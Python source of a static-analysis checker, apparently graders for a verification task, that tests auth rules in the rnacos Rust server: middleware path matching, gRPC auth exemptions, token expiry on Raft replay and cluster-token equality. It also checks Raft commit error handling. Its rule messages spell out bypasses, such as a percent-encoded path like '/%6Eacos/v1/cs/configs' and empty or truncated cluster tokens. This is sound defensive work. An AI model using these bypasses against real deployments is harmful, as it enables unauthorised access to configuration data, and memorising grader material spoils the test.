                if sc[0].bb in reach:
                    leaks.append('token %s, session %s/%s' % ('empty' if te else 'present', sr, so))
            env = {('uv', i): v for i, v in vals.items()}
            env.update({'token_empty': False, 'session_result': 'Ok', 'session_option': 'Some'})
            reach, flags = walk.table_walk(b, classify_for(vals), env, call_name)
            live = sc[0].bb in reach
            if p in ALLOWED_IGNORE:
                ck.ok('R16f', 'route-exempt:%s' % key, r.site.where(), 'allowed exemption')
            else:
                ck.require(not leaks, 'R16f', 'route:%s' % key, r.site.where(),
                           'with auth on, %s (handler %s) is served without a valid token (%s): the middleware evaluated on this path with the '
                           'tree\'s tables lets the request through' % (key, r.handler, '; '.join(leaks)), 'refused without a valid session')
            ck.require(live, 'R16f', 'route-live:%s' % key, r.site.where(), '%s is refused even with a valid session' % key)
    ck.floor('R16f', 'route paths evaluated end to end', n, 50)
    ck.extra['tables_consulted'] = sorted(consulted)


def r16g(ck, fb):
    ck.rule('R16g', 'path agreement: the string ApiCheckAuthMiddleware::call classifies (every argument of Regex::is_match / contains on the '
                    'protected-path tables) is the path actix routes on - ServiceRequest::match_info().as_str(), the percent-decoded form - and '
                    'not the raw request-line path ServiceRequest::path()/uri().path(); the middleware is fail-open for paths its regexes do '
                    'not match, so "/%6Eacos/v1/cs/configs" would be routed to the config handler without ever being classified')
    outer = [b for b in fb.find(r'auth_middle::ApiCheckAuthMiddleware<S> as actix_web::dev::Service<actix_web::dev::ServiceRequest>>::call$')]
    if not outer:
        ck.bad('R16g', 'anchor:call', '-', 'ApiCheckAuthMiddleware::call not found')
        return
    n = 0
    for b in util.region(fb, outer[0]):
        for st in b.calls(r'regex::Regex::is_match$|::contains$'):
            nm = _static_name(b, st.args[0]) or ''
            if 'METRICS' in nm:
                continue   # metrics bookkeeping only, not an access decision
            if not nm and (st.callee or '').endswith('::contains'):
                continue   # contains() on a local collection (e.g. tokens already tried), not a path table
            n += 1
            txt = cfg.fmt_desc(cfg.describe_operand(b, st.args[1]))
            raw = 'ServiceRequest::path' in txt or 'Uri::path' in txt or 'HttpRequest::path' in txt
            routed = 'match_info' in txt or 'Path::<T>::as_str' in txt
            ck.require(routed and not raw, 'R16g', 'classifies-routed-path:%s' % (nm.split('::')[-1] or st.callee), st.where(),
                       'the access decision consults %s with %s: the raw request path, while actix dispatches on the percent-decoded path '
                       '(Url::new requotes it); an encoded spelling of a protected route is served without a token' % (nm.split('::')[-1], txt[:60]),
                       'classifies match_info().as_str()')
    ck.floor('R16g', 'path classification sites', n, 2)


def r16d(ck, fb):
    ck.rule('R16d', 'ApiCheckAuthMiddleware::call: is_check_path = (API_PATH.is_match || R_NACOS_API_PATH.is_match) && !IGNORE_PATH.contains when '
                    'enable_auth; in the async block service.call(request) is edge-dominated by pass == true, and pass is true only if '
                    '!enable_auth || !is_check_path || (token non-empty and get_user_session(..) == Ok(Some(_))); token order header, query, body')
    outer = [b for b in fb.find(r'auth_middle::ApiCheckAuthMiddleware<S> as actix_web::dev::Service<actix_web::dev::ServiceRequest>>::call$')]
    ck.require(len(outer) >= 1, 'R16d', 'anchor:call', '-', 'ApiCheckAuthMiddleware::call not found')
    if not outer:
        return
    o = outer[0]
    ck.analysed(o)
    im = o.calls(r'regex::Regex::is_match$')
    ct = o.calls(r'slice::<impl \[T\]>::contains$|Vec::<T, A>::contains$|::contains$')
    ck.require(len(im) >= 1 and len(ct) >= 1, 'R16d', 'call:is_check_path-inputs', o.where(), 'is_check_path is not computed from a path regex and an exemption list')
    ef = util.read_fields(o)
    ck.require('openapi_enable_auth' in ef, 'R16d', 'call:reads-enable_auth', o.where(), 'enable_auth is not read from sys_config.openapi_enable_auth')
    inner = fb.tree(o.name)[1:]
    blk = [b for b in inner if b.calls(r'Service<.*>::call$|dev::Service<Req>::call$')]
    ck.require(len(blk) >= 1, 'R16d', 'anchor:async-block', o.where(), 'the async block calling service.call was not found')
    if not blk:
        return
    b = blk[0]
    ck.analysed(b)
    sc = b.calls(r'Service<.*>::call$|dev::Service<Req>::call$')
    lookups = session_lookups(fb, b)
    provs = session_providers(fb, b)
    ck.require(len(sc) == 1 and len(lookups) >= 1, 'R16d', 'block:sites', b.where(), 'service.call not found exactly once, or no get_user_session lookup reachable from the block')
    if len(sc) != 1 or not lookups:
        return
    # a provider hands out Some(session) only for a session that get_user_session returned
    for t in provs:
        for x in util.region(fb, t, 2):
            if 'get_user_session' in x.name:
                continue
            ck.analysed(x)
            tl = Taint(x, call_src=lambda tt: bool(re.search(r'auth_middle::get_user_session$', (tt.get('f') or {}).get('d', '') or '')) or
                       any(q.name == ((tt.get('f') or {}).get('d') or '') for q in provs))
            for (i, j, st) in x.aggregates(r'std::option::Option$', 'Some'):
                ty = x.local_ty(st['d']) if isinstance(st.get('d'), int) else ''
                if 'TokenSession' not in (ty or ''):
                    continue
                ck.require(tl.op_tainted(st['rv']['ops'][0]), 'R16d', 'provider:%s:some-only-from-lookup' % t.name.split('::')[-1], x.where(i),
                           '%s returns Some(session) with a session that does not come from get_user_session' % t.name.split('::')[-1])
    # truth table: service.call reachable  <=>  !enable_auth || !is_check_path || (token non-empty && session == Ok(Some(_)))
    import itertools
    from rn import walk
    upv = {}
    for u in b.rec.get('upvars', []):
        fs = [e.get('f') for e in u['pl']['p'] if isinstance(e, dict) and 'f' in e]
        if fs:
            upv[fs[0]] = u['n']

    def classify(d, term):
        if d['k'] == 'place' and d['root'].get('k') == 'arg' and d['root'].get('l') == 1 and d['fields'] and upv.get(d['fields'][0]) in ('enable_auth', 'is_check_path'):
            return ('bool', upv[d['fields'][0]])
        if d['k'] == 'call' and (cfg.callee_name(d['term']) or '').endswith('String::is_empty'):
            return ('bool', 'token_empty')
        sd = is_session_discr(fb, b, d)
        if sd:
            return ('variant', sd)
        return None
    bad = None
    rows_n = 0
    f403 = b.calls(r'HttpResponse>::Forbidden$|HttpResponse::Forbidden$')
    for (ea, cp, te, sr, so) in itertools.product([False, True], [False, True], [False, True], ['Ok', 'Err'], ['Some', 'None']):
        env = {'enable_auth': ea, 'is_check_path': cp, 'token_empty': te, 'session_result': sr, 'session_option': so}
        def call_name(t):
            # named sub-conditions (`let need_auth = enable_auth && is_check_path;`) are resolved from what they copy
            if 'place' in t:
                from rn.facts import pl_fields, pl_local
                fs0 = pl_fields(t['place'])
                if pl_local(t['place']) == 1 and fs0 and upv.get(fs0[0]) in ('enable_auth', 'is_check_path'):
                    return upv[fs0[0]]
                return None
            if (cfg.callee_name(t) or '').endswith('String::is_empty'):
                return 'token_empty'
            return None
        r, _named = walk.table_walk(b, classify, env, call_name)
        # the `pass` flag: a local assigned a constant on each feasible path, then tested once; resolve it from the feasible assignments
        doms = [cfg.describe_operand(b, t['discr']) for (s_, d_, lab_, t) in cfg.dominating_edges(b, sc[0].bb)]
        flags = [d['l'] for d in doms if d['k'] == 'multi']
        if len(flags) != 1:
            bad = 'service.call is not guarded by exactly one flag local (pass)'
            break
        vals = set()
        for kind, bb_, j_, node in b.defs.get(flags[0], []):
            if bb_ in r and kind == 'stmt' and node['rv']['k'] == 'use' and 'c' in node['rv']['op']:
                vals.add(node['rv']['op']['c'].get('v') in (True, 'true', 1))
            elif bb_ in r:
                vals.add(None)
        if len(vals) != 1 or None in vals:
            bad = 'the pass flag is not a single constant under %s (%s)' % (env, vals)
            break
        env2 = dict(env)
        env2['pass'] = list(vals)[0]

        def classify2(d, term, flag=flags[0]):
            if d['k'] == 'multi' and d.get('l') == flag:
                return ('bool', 'pass')
            return classify(d, term)
        r, _named2 = walk.table_walk(b, classify2, env2, call_name)
        if provs:
            # the provider folds "token empty" and "lookup failed" into None
            want = (not ea) or (not cp) or (so == 'Some')
        else:
            want = (not ea) or (not cp) or ((not te) and sr == 'Ok' and so == 'Some')
        got = sc[0].bb in r
        rows_n += 1
        if got != want:
            bad = 'with %s the handler is %s, the property requires %s' % (env, 'reached' if got else 'not reached', 'reached' if want else 'refused (403)')
            break
        if f403 and ((f403[0].bb in r) == want):
            bad = 'with %s the 403 branch is %s' % (env, 'reached' if f403[0].bb in r else 'not reached')
            break
    ck.require(bad is None, 'R16d', 'block:pass-table', sc[0].where(), bad or '', '%d rows' % rows_n)
    ck.require(len(f403) >= 1, 'R16d', 'block:refusal-403', b.where(), 'the refusal branch does not build HttpResponse::Forbidden')
    # session lookup happens only for non-empty token; empty token -> pass = false
    for (x, g0) in lookups:
        ok_e = False
        for a in cfg.guard_atoms(x, g0.bb):
            if a[0] == 'call' and (a[1] or '').endswith('is_empty') and a[2] is False:
                ok_e = True
        ck.require(ok_e, 'R16d', 'block:empty-token-is-no-token' + ('' if x is b else ':' + x.name.split('::')[-2]), g0.where(),
                   'an empty token is looked up like a real one (or the emptiness test is gone)')
    # the session key is built from the extracted token with CacheType::ApiTokenSession
    okk = False
    for x in set(y for (y, _) in lookups):
        for s in x.calls(r'CacheKey::new$'):
            a = util.agg_of(x, s.args[0])
            if a and a['variant'] == 'ApiTokenSession':
                okk = True
    ck.require(okk, 'R16d', 'block:session-kind', b.where(), 'the token is not looked up as an ApiTokenSession')
    # token extraction order (in the block itself or in a helper it calls)
    ok_o = False
    for b2 in util.region(fb, b, 2):
        # the header is read by header_token or by a helper that calls it
        ht = list(b2.calls(r'auth_middle::header_token$'))
        for s0 in b2.sites:
            t = util._local_target(b2, s0)
            if t is not None and t.file == b2.file and not t.name.endswith('::header_token') and \
                    any(y.calls(r'auth_middle::header_token$') for y in util.region(fb, t, 1)) and t.name not in [q.name for q in provs]:
                ht.append(s0)
        qs = b2.calls(r'serde_urlencoded::from_str')
        pb = b2.calls(r'auth_middle::peek_body_token$')
        if ht and qs and pb:
            ok_o = cfg.dominates_blocks(b2, {ht[0].bb}, qs[0].bb) and cfg.dominates_blocks(b2, {qs[0].bb}, pb[0].bb)
    ck.require(ok_o, 'R16d', 'block:token-order', b.where(), 'token is not extracted in the order header -> query -> body')


def _upvar_names(b, desc):
    names = set()
    if desc.get('k') != 'place':
        return names
    pl = desc.get('pl')
    if pl is None:
        return names
    for u in b.rec.get('upvars', []):
        up = u['pl']
        f1 = [e.get('f') for e in up['p'] if isinstance(e, dict) and 'f' in e]
        f2 = [e.get('f') for e in (pl['p'] if not isinstance(pl, int) else []) if isinstance(e, dict) and 'f' in e]
        if f1 and f2 and f1[0] == f2[0] and up['l'] == (pl['l'] if not isinstance(pl, int) else pl):
            names.add(u['n'])
    # also through a copied local: describe root
    return names


def r16e(ck, fb):
    ck.rule('R16e', 'gRPC: InvokerHandler::ignore_auth accepts exactly {ServerCheck, HealthCheck} + the cluster request types; every type '
                    'registered by add_handler for config/naming data is outside ignore_auth; in InvokerHandler::handle the handler.handle site '
                    'is reached only past the auth refusal and the cluster-token refusal (exhaustive truth table over the six inputs)')
    ia = ck.body(GH + 'InvokerHandler::ignore_auth', 'R16e')
    ic = ck.body(GH + 'InvokerHandler::is_cluster_request', 'R16e')

    def eq_consts(b):
        out = set()
        for s in b.calls(r'PartialEq.*::eq$'):
            for a in s.args:
                d = cfg.strip_calls(b, cfg.describe_operand(b, a))
                if d['k'] == 'const':
                    c = d['c']
                    out.add(c.get('name', c.get('s', '?')).split('::')[-1])
        return out
    if ia and ic:
        ign = eq_consts(ia)
        clu = eq_consts(ic)
        ck.extra['grpc_ignore_auth'] = sorted(ign)
        allowed = {'SERVER_CHECK_REQUEST', 'HEALTH_CHECK_REQUEST', 'ServerCheckRequest', 'HealthCheckRequest'} | clu
        ck.require(ign <= allowed and len(ign) >= 2, 'R16e', 'ignore_auth:set', ia.where(),
                   'ignore_auth exempts %s from authentication (allowed: ServerCheck, HealthCheck and the cluster request types %s)' % (sorted(ign - allowed), sorted(clu)))
        ck.require(all(re.search(r'RAFT|ROUTE|Raft|Route', x) for x in clu) and len(clu) >= 4, 'R16e', 'is_cluster_request:set', ic.where(),
                   'is_cluster_request covers %s' % sorted(clu))
    # registered handler types
    reg = {}
    for b in fb.find('^' + re.escape(GH + 'InvokerHandler::') + r'add_\w+_handler$'):
        ck.analysed(b)
        for s in b.calls(r'InvokerHandler::add_handler$'):
            d = cfg.strip_calls(b, cfg.describe_operand(b, s.args[1]))
            if d['k'] == 'const':
                c = d['c']
                reg[c.get('name', c.get('s', '?')).split('::')[-1]] = (b, s)
    ck.floor('R16e', 'registered gRPC handler types', len(reg), 10)
    if ia and ic:
        for name, (b, s) in sorted(reg.items()):
            if name in clu or re.search(r'RAFT|ROUTE', name):
                continue
            ck.require(name not in ign or name in ('SERVER_CHECK_REQUEST', 'HEALTH_CHECK_REQUEST'), 'R16e', 'handler-not-exempt:%s' % name, s.where(),
                       'gRPC data request %s is exempt from authentication' % name)
    h = fb.find(r'InvokerHandler as rnacos::grpc::PayloadHandler>::handle$')
    ck.require(len(h) >= 1, 'R16e', 'anchor:InvokerHandler::handle', '-', 'InvokerHandler::handle not found')
    if not h:
        return
    m = fb.main(h[0].name)
    ck.analysed(m)
    hs = m.calls(r'PayloadHandler::handle$')
    ck.require(len(hs) == 1, 'R16e', 'handle:dispatch-site', m.where(), 'dispatch site handler.handle not found exactly once')
    if not hs:
        return
    # path enumeration: walk the CFG from entry to the dispatch site assigning truth values to the six inputs; dispatch must be unreachable
    # when (enable_auth && !ignore_auth && session none) or (token configured && is_cluster && !token valid)
    atoms_def = {}

    def classify(term):
        d = cfg.describe_operand(m, term['discr'])
        neg = False
        while d['k'] == 'un' and d['op'] == 'Not':
            neg = not neg
            d = cfg.describe_operand(m, d['a'])
        name = None
        if d['k'] == 'call':
            cn = cfg.callee_name(d['term']) or ''
            if cn.endswith('InvokerHandler::ignore_auth'):
                name = 'ignore_auth'
            elif cn.endswith('InvokerHandler::is_cluster_request'):
                name = 'is_cluster'
            elif cn.endswith('Option::<T>::is_none'):
                name = 'session_none'
            elif cn.endswith('is_empty'):
                name = 'cluster_token_empty'
            elif re.search(r'PartialEq.*::eq$', cn):
                name = 'is_server_check'
        elif d['k'] == 'place':
            f = d['fields'][-1:]
            if f == ['openapi_enable_auth']:
                name = 'enable_auth'
            elif f == ['cluster_token_is_valid']:
                name = 'cluster_token_valid'
        return name, neg
    import itertools
    names = ['enable_auth', 'ignore_auth', 'session_none', 'cluster_token_empty', 'is_cluster', 'cluster_token_valid']
    bad = None
    rowsn = 0
    for vals in itertools.product([False, True], repeat=len(names)):
        env = dict(zip(names, vals))
        env['is_server_check'] = False

        def decide(bb, term):
            nm, neg = classify(term)
            if nm is None:
                return None
            v = env[nm]
            if neg:
                v = not v
            from .c01 import bool_labels
            return bool_labels(term, v)
        from .c01 import reach_under
        r = reach_under(m, decide)
        reached = hs[0].bb in r
        must_refuse = (env['enable_auth'] and not env['ignore_auth'] and env['session_none']) or \
                      ((not env['cluster_token_empty']) and env['is_cluster'] and not env['cluster_token_valid'])
        rowsn += 1
        if must_refuse and reached:
            bad = 'with %s the request is dispatched to its handler although it must be refused' % env
            break
        if not must_refuse and not reached:
            bad = 'with %s the request is refused although it is authenticated' % env
            break
    ck.require(bad is None, 'R16e', 'handle:guard-table', hs[0].where(), bad or '', '%d rows' % rowsn)
    # token_session provenance: RequestMeta.token_session is filled from the ApiTokenSession cache lookup in the gRPC server
    ts = []
    for b in fb.bodies.values():
        if not b.name.startswith('rnacos::grpc::') and not b.name.startswith('<rnacos::grpc::'):
            continue
        for (i, j, st) in b.aggregates(r'grpc::RequestMeta$'):
            ts.append((b, i, st))
        for (o, f, bb, st) in b.field_writes():
            if f == 'token_session':
                ts.append((b, bb, st))
    ck.require(len(ts) >= 1, 'R16e', 'RequestMeta:built', '-', 'no construction of RequestMeta found in grpc::')


def r16h(ck, fb):
    ck.rule('R16h', 'an expired token stays expired after a restart: API tokens are cache entries written through the Raft log (CacheSetParam carries '
                    'ttl and the login time `now`); DirectCacheManager::{set,get_set} compute the expiry handed to the store from those two fields '
                    'and never from the local clock at apply time - replay of the login entry (restart, lagging follower) would otherwise give an '
                    'expired token a fresh ttl')
    DC = 'rnacos::cache::core::DirectCacheManager::'
    n = 0
    for fn in ('set', 'get_set'):
        b = ck.body(DC + fn, 'R16h')
        if not b:
            continue
        sinks = b.calls(re.escape(DC) + r'(do_set|set_nx|set_xx|set_value)$')
        ck.floor('R16h', 'store calls in ' + fn, len(sinks), 1)
        good = Taint(b, place_src=field_place_src('now'))
        clock = Taint(b, call_src=lambda t: bool(re.search(r'now_second|now_millis|SystemTime::now|Local::now', (t.get('f') or {}).get('d', ''))))
        region_clock = [x for x in util.region(fb, b) if x is not b and x.calls(r'now_second|now_millis|SystemTime::now|Local::now')]
        for s0 in sinks:
            n += 1
            exp = s0.args[-1]
            via_helper = any(cfg.fmt_desc(cfg.describe_operand(b, exp)).find(x.name.split('::')[-1]) >= 0 for x in region_clock)
            ok = good.op_tainted(exp) and not clock.op_tainted(exp) and not via_helper
            ck.require(ok, 'R16h', '%s:expiry-from-command' % fn, s0.where(),
                       'the expiry stored for a cache entry is not ttl + the time stamp carried by the command (%s): it depends on when the entry is '
                       'applied, so replaying the log revives tokens that had expired' % cfg.fmt_desc(cfg.describe_operand(b, exp))[:60])
    ck.floor('R16h', 'expiry computations checked', n, 2)


def r16i(ck, fb):
    ck.rule('R16i', 'a wrong, expired or empty token is treated as no token - in every carrier: the HTTP middleware reads the token from the '
                    'Authorization header, the accessToken header, the query and the form. A value that does not resolve to a login session must '
                    'not end the search while another carrier is unread: from the outcome of one session lookup another lookup is reachable (a '
                    'loop over the carriers or a chain). With "first carrier present wins" a proxy\'s Basic Authorization header, or an empty '
                    'accessToken=, hides the valid token the request carries elsewhere and the request is refused')
    mids = [b for b in fb.bodies.values() if re.search(r'auth_middle::ApiCheckAuthMiddleware<S> as actix_web::dev::Service<.*>>::call::\{closure#0\}$', b.name)]
    if not ck.require(len(mids) == 1, 'R16i', 'anchor:middleware', '-', 'ApiCheckAuthMiddleware::call not found'):
        return
    m = mids[0]
    lookups = []
    for x in util.region(fb, m, 2):
        for s0 in x.calls(r'auth_middle::get_user_session$'):
            lookups.append((x, s0))
    if not ck.require(len(lookups) >= 1, 'R16i', 'anchor:session-lookup', m.where(), 'the middleware no longer looks the session up through get_user_session'):
        return
    again = False
    for (x, s0) in lookups:
        ck.analysed(x)
        nxt = x.blocks[s0.bb]['t'].get('t')
        r = cfg.reach_from(x, [nxt]) if nxt is not None else set()
        if any(o.bb in r for (y, o) in lookups if y is x):
            again = True
    ck.require(again, 'R16i', 'middleware:every-carrier-is-tried', lookups[0][1].where(),
               'the token is taken from the first carrier that is present and looked up once: Authorization: Basic .. with a valid accessToken in the '
               'query, an empty accessToken header with a valid token in the query, an empty accessToken= in the query with a valid token in the form, '
               'a garbage header with a valid token in the form - all four are answered 403', 'a failed lookup is followed by the next carrier')


def _len_decisions(fb, b, op, depth=0, seen=None):
    """length comparisons that decide which value an operand gets: guards of its definitions when it has several, and the same inside the
    same-crate helper that produces it"""
    out = []
    if depth > 4:
        return out
    d = cfg.describe_operand(b, op)

    def len_atoms(x, bb):
        r = []
        for a in cfg.guard_atoms(x, bb):
            if a[0] == 'cmp' and a[1] in ('Lt', 'Le', 'Gt', 'Ge'):
                txt = cfg.fmt_desc(a[2]) + ' ' + cfg.fmt_desc(a[3])
                if re.search(r'::len\b|::len\)|String::len|str>::len|<impl str>::len', txt):
                    r.append((x, bb, cfg.fmt_atom(a)))
        return r
    if d['k'] == 'multi':
        for (kind, bb, j, node) in d.get('defs', []):
            out += len_atoms(b, bb)
            if kind == 'call' and node.get('args'):
                pass
    if d['k'] == 'call':
        nm = cfg.callee_name(d['term']) or ''
        hb = fb.bodies.get(nm)
        if hb is not None and not hb.parent:
            for (kind, bb, j, node) in hb.defs.get(0, []):
                out += len_atoms(hb, bb)
                if kind == 'stmt' and node['rv']['k'] in ('use', 'cast'):
                    out += _len_decisions(fb, hb, node['rv']['op'], depth + 1)
        elif d['term'].get('args'):
            out += _len_decisions(fb, b, d['term']['args'][0], depth + 1)
    return out


def r16j(ck, fb, R='R16j'):
    ck.rule(R, 'the cluster token that protects cluster-internal gRPC requests is the one the operator configured: AppSysConfig::init_from_env takes '
               'RNACOS_CLUSTER_TOKEN as it is - no length test decides whether the configured value is kept (the backup token has such a rule: a '
               'short one switches the backup API off, which fails closed; the same rule on the cluster token switches the check off, which '
               'fails open: a RaftRouteRequest without any token is served)')
    bs = [b for b in fb.bodies.values() if b.name.endswith('AppSysConfig::init_from_env') and not b.parent]
    if not ck.require(len(bs) == 1, R, 'anchor:init_from_env', '-', 'AppSysConfig::init_from_env not found'):
        return
    b = bs[0]
    ck.analysed(b)
    n = 0
    for (i, j, st) in b.aggregates(r'common::AppSysConfig$'):
        rv = st['rv']
        if 'cluster_token' not in rv['fields']:
            continue
        n += 1
        op = rv['ops'][rv['fields'].index('cluster_token')]
        chain = util.value_chain(fb, b, op)
        helpers = [fb.bodies.get(cfg.callee_name(t) or '') for (_b, t) in chain]
        from_env = any((cfg.callee_name(t) or '').endswith('env::var') for (_b, t) in chain) or \
            (any('RNACOS_CLUSTER_TOKEN' in str(c) for c in util.const_strs(b)) and
             any(y.calls(r'std::env::var$') for h in helpers if h is not None for y in util.region(fb, h, 1)))
        names = []
        for (cb, t) in chain:
            if (cfg.callee_name(t) or '').endswith('env::var') and t.get('args'):
                names.append(cfg.fmt_desc(cfg.describe_operand(cb, t['args'][0])))
        ck.require(from_env, R, 'init_from_env:cluster_token-from-env', b.where(i), 'cluster_token is not read from the environment')
        dec = _len_decisions(fb, b, op)
        ck.require(not dec, R, 'init_from_env:cluster_token-kept-as-configured', dec[0][0].where(dec[0][1]) if dec else b.where(i),
                   'whether the configured cluster token is used depends on its length (%s): a token the operator set is silently dropped, and with '
                   'an empty cluster token the cluster check is skipped altogether' % (dec[0][2] if dec else ''), 'taken as configured')
    ck.floor(R, 'AppSysConfig built from the environment', n, 1)


def r16k(ck, fb, R='R16k'):
    ck.rule(R, '"a wrong token is treated as no token" for the cluster token: RequestMeta.cluster_token_is_valid is only ever assigned the result of '
               'comparing the WHOLE presented header value with the WHOLE configured token - a std equality (str / String / slice PartialEq) one of whose '
               'operands is AppSysConfig.cluster_token, or a helper that contains such an equality or compares the two lengths (a constant-time loop over '
               'zipped bytes without a length test accepts the empty string and every prefix of the token). Literal false is allowed')
    from rn.facts import op_const
    n = 0
    for b in fb.bodies.values():
        if not b.name.startswith('rnacos::') or '::tests::' in b.name:
            continue
        for (o, f, bb, st) in b.field_writes():
            if f != 'cluster_token_is_valid':
                continue
            n += 1
            ck.analysed(b)
            rv = st['rv']
            op = rv.get('op') if rv['k'] == 'use' else None
            key = '%s:cluster_token_is_valid' % b.name.split('::')[-1]
            if op is None:
                ck.bad(R, key, b.where(bb), 'cluster_token_is_valid is computed by %s, not taken from an equality' % rv['k'])
                continue
            c = op_const(op)
            if c is not None:
                ck.require(c.get('v') in (False, 0, 'false'), R, key, b.where(bb), 'cluster_token_is_valid is set to a literal that is not false')
                continue
            d = cfg.describe_operand(b, op)
            neg = False
            while d['k'] == 'un' and d['op'] == 'Not':
                neg = not neg
                d = cfg.describe_operand(b, d['a'])
            if d['k'] != 'call':
                ck.bad(R, key, b.where(bb), 'cluster_token_is_valid does not come from a comparison (%s)' % cfg.fmt_desc(d))
                continue
            name = cfg.callee_name(d['term']) or ''
            args = d['term']['args']
            tok = any('cluster_token' in (cfg.origin_fields(b, a) or []) for a in args)
            whole = False
            how = name
            if re.search(r'PartialEq.*::(eq|ne)$|::(eq|ne)$', name) and name.startswith(('std::', 'core::', 'alloc::', '<')):
                whole = (name.endswith('::eq') and not neg) or (name.endswith('::ne') and neg)
            elif re.search(r'(ct_eq|constant_time_eq|verify_slices_are_equal)$', name):
                whole = not neg
            elif name in fb.bodies:
                h = fb.bodies[name]
                for x in util.region(fb, h):
                    ck.analysed(x)
                    if x.calls(r'PartialEq.*::(eq|ne)$|(ct_eq|constant_time_eq)$'):
                        whole = True
                    for (i2, j2, st2) in x.stmts():
                        r2 = st2.get('rv')
                        if r2 and r2['k'] == 'bin' and r2['op'] in ('Eq', 'Ne'):
                            da = cfg.strip_calls(x, cfg.describe_operand(x, r2['a']))
                            db = cfg.strip_calls(x, cfg.describe_operand(x, r2['b']))
                            def is_len(dd):
                                return (dd['k'] == 'call' and re.search(r'::len$', cfg.callee_name(dd['term']) or '')) or \
                                       (dd['k'] == 'un' and dd.get('op') == 'PtrMetadata') or dd['k'] == 'len'
                            if is_len(da) and is_len(db):
                                whole = True
                whole = whole and not neg
                how = 'helper %s' % name
            ck.require(whole and tok, R, key, b.where(bb),
                       'cluster_token_is_valid is the answer of %s, which is not an equality of the whole presented value with the whole configured cluster '
                       'token (operand from AppSysConfig.cluster_token: %s): an empty or truncated ClusterToken header passes as the cluster token' % (how, tok),
                       'whole-value equality with the configured token')
    ck.floor(R, 'assignments of cluster_token_is_valid', n, 1)
