"""C06 Cluster: acknowledged config writes are never lost; all nodes converge (error-discipline clause only)."""
import re
from rn import cfg, util
from rn.flow import Taint
from rn.callgraph import CallGraph

CR = 'rnacos::raft::cluster::route::ConfigRoute::'
CA = 'rnacos::config::core::ConfigActor'
ASYNC_H = '<rnacos::config::core::ConfigActor as actix::Handler<rnacos::config::core::ConfigAsyncCmd>>::handle'

# callers of ConfigRoute::{set_config,del_config} whose API contract has no per-entry result (one reason each)
CALLER_EXCEPTIONS = {
    'rnacos::console::config_api::import_config': 'zip bulk import: per-entry results are not part of that API\'s response',
}


def chain_bodies(fb):
    names = [CR + 'set_config', CR + 'del_config', ASYNC_H, CA + '::send_raft_request']
    out = []
    for n in names:
        if fb.has(n):
            out.extend(fb.tree(n))
    return names, out


def run(ck, fb):
    _run0(ck, fb)
    r06f(ck, fb)
    r06h(ck, fb)
    ck.borrow('rules.c03', {'R03a': 'R06o'}, 'a conflicting suffix a follower removed must not come back after a restart: the resurrected entries were never committed, and a later leader_commit makes the node apply them in place of the committed ones - it settles on other contents than the majority')
    ck.borrow('rules.c01', {'R01aa': 'R06n'}, 'a publish acknowledged right after a compaction must be restored by the replay: a node that skips it serves the older content for good while the others serve the write')
    ck.borrow('rules.c08', {'R08a': 'R06m'}, 'entries replicated after a snapshot install must not be overtaken by the load of the snapshot: the older record would overwrite an acknowledged newer write on that follower')
    ck.borrow('rules.c02', {'R02s': 'R06k'}, 'an acknowledged publish whose log record is cut by a later preallocation step is lost for every node that reads it back from the file')
    ck.borrow('rules.c09', {'R09c': 'R06l'}, 'a committed publish is applied unless the node already serves exactly that content: any other shortcut in set_config drops an acknowledged write on every node')
    ck.borrow('rules.c05', {'R05j': 'R06j'}, 'a vote that is acknowledged but not saved lets the node vote twice in one term after a restart: two leaders, an acknowledged write is truncated')
    ck.borrow('rules.c02', {'R02n': 'R06g'}, 'a node that restarts right after a leader change must report the term of its last entry: the vote / append fast path compares it')


def _run0(ck, fb):
    ck.explanation = (
        'Decides only the last sentence of the property ("a request that could not be committed is answered with an error, not with '
        'success") as error discipline on the commit chain: from ConfigRoute::{set_config,del_config} through Handler<ConfigAsyncCmd> and '
        'send_raft_request to Raft::client_write / RaftClusterRequestSender::send_request no Result is discarded; every endpoint that calls '
        'the route branches on its result; the follower records its temporary value only after the leader\'s answer was decoded; the '
        'leader-side router answers a routed write from the result of the same route functions.')
    ck.undecided = 'Does not decide durability or convergence under crash/partition schedules (needs running nodes).'
    ck.borrow('rules.c07', {'R07d': 'R06e'}, 'a follower must not drop a committed entry: do_send (unbounded) only, never try_send / detached tasks')
    ck.rule('R06a', 'no Result on the config commit chain is discarded (.ok() / unused): ConfigRoute::{set_config,del_config}, '
                    'Handler<ConfigAsyncCmd>, send_raft_request; client_write is awaited with ?')
    names, bodies = chain_bodies(fb)
    for n in names:
        ck.body(n, 'R06a')
    n_sites = 0
    for b in bodies:
        ck.analysed(b)
        for (s, how) in util.discard_sites(b):
            if s.expanded:
                continue
            cal = s.callee or ''
            if re.search(r'^std::(vec|collections|mem)|::insert$|::remove$|::take$', cal):
                continue
            n_sites += 1
            # what was discarded: find the innermost interesting producer
            prod = cal
            if cal.endswith('::ok') and s.args:
                d = cfg.describe_operand(b, s.args[0])
                seen = 0
                while d['k'] in ('call', 'place') and seen < 8:
                    if d['k'] == 'place':
                        d = d['root']
                        seen += 1
                        continue
                    nm = cfg.callee_name(d['term']) or ''
                    prod = nm
                    if re.search(r'send_raft_request|Addr::<A>::send|client_write|send_request', nm):
                        break
                    if not d['term']['args']:
                        break
                    d = cfg.describe_operand(b, d['term']['args'][0])
                    seen += 1
            ck.bad('R06a', '%s:discard:%s' % (b.name, prod.split('::')[-1]), s.where(),
                   'the result of %s is thrown away (%s) on the config commit chain: when the Raft write fails (lost leadership, '
                   'close-write state, shutdown) the client is still answered with success' % (prod, how))
    sr = fb.main(CA + '::send_raft_request') if fb.has(CA + '::send_raft_request') else None
    if sr:
        cw = sr.calls(r'async_raft_ext::Raft::<.*>::client_write$|Raft::<D, R, N, S>::client_write$')
        ck.require(len(cw) >= 1 and all(util.awaited(sr, _x) for _x in cw), 'R06a', 'send_raft_request:client_write', sr.where(), 'client_write is not awaited')
        if cw:
            oks = util.ok_return_blocks(sr)
            # an Ok(()) on the path through client_write must be under its Continue arm
            after = cfg.reach_from(sr, [sr.blocks[cw[0].bb]['t']['t']])
            okc = True
            for i in oks:
                if i in after:
                    vg = util.variant_guards(sr, i)
                    if not any(v == 'Continue' for (_, v) in vg) and cfg.dominates_blocks(sr, {cw[0].bb}, i):
                        okc = False
            ck.require(okc, 'R06a', 'send_raft_request:propagates', sr.where(), 'a client_write error does not reach the caller')
    h = fb.bodies.get(ASYNC_H)
    if h:
        inner = fb.tree(ASYNC_H)
        calls = [s for b in inner for s in b.calls(re.escape(CA + '::send_raft_request') + '$')]
